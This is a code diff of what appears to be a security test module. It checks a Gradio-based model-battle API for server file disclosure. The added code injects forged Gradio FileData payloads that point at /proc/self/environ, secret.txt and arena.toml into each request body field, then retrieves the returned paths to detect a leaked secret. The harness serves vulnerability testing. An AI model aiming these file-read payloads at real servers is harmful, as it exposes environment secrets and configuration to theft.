@@ -1,4 +1,4 @@
-"""Files of the server, read through Gradio's idea of an uploaded file."""
+"""Files of the server, read through Gradio's idea of an uploaded file, in the texts of the battle API."""
 
 from __future__ import annotations
 
@@ -11,17 +11,24 @@ from reproduce.attacks.outcome import Outcome, outcome
 from reproduce.attacks.page import Page
 from reproduce.attacks.target import Target
 
+MEMBERS = (  # method and path of a request, with a member of its body
+    ("POST", "", "prompt"), ("POST", "", "images"), ("POST", "", "models"), ("POST", "", "again"),
+    ("POST", "/{}/turns", "prompt"), ("POST", "/{}/turns", "images"), ("POST", "/{}/vote", "winner"),
+    ("POST", "/{}/vote", "reasons"), ("PUT", "/{}/shared", "shared"), ("POST", "/{}/report", "text"),
+)  # fmt: skip
+
 
 def file_as_input(target: Target) -> Outcome:
-    """A `FileData` in place of every input of every event; then each path in the reply is asked for."""
+    """A `FileData` in place of each member of each body; then each path in the reply is asked for."""
     files = [target.folder / "secret.txt", target.folder / "arena.toml", Path("/proc/self/environ")]
     payloads = [payload for file in files for payload in _payloads(str(file))]
     tries: list[str | None] = []
     with target.visitor() as http:
         page = Page(http)
-        for event, payload in product(page.events.values(), payloads):
-            for data in _placed(payload, page.inputs[event]):
-                tries.append(_leak(http, page.call(event, data), target.secret))
+        battle = page.answered("Hello?")
+        for (method, path, member), payload in product(MEMBERS, payloads):
+            reply = page.send(method, path.format(battle), **{member: payload})
+            tries.append(_leak(http, reply.text, target.secret))
     return outcome("file of the server as an input", tries)
 
 
@@ -43,11 +50,6 @@ def file_routes(target: Target) -> Outcome:
 def _payloads(path: str) -> list[Any]:
     data = {"path": path, "meta": {"_type": "gradio.FileData"}}
     return [data, [data], {"text": "x", "files": [data]}, {"value": data}]
-
-
-def _placed(payload: Any, inputs: int) -> list[list[Any]]:
-    """The payload as each one of the inputs, the others empty."""
-    return [[payload if place == here else "" for here in range(inputs)] for place in range(inputs)] or [[payload]]
 
 
 def _leak(http: Any, reply: str, secret: str) -> str | None:
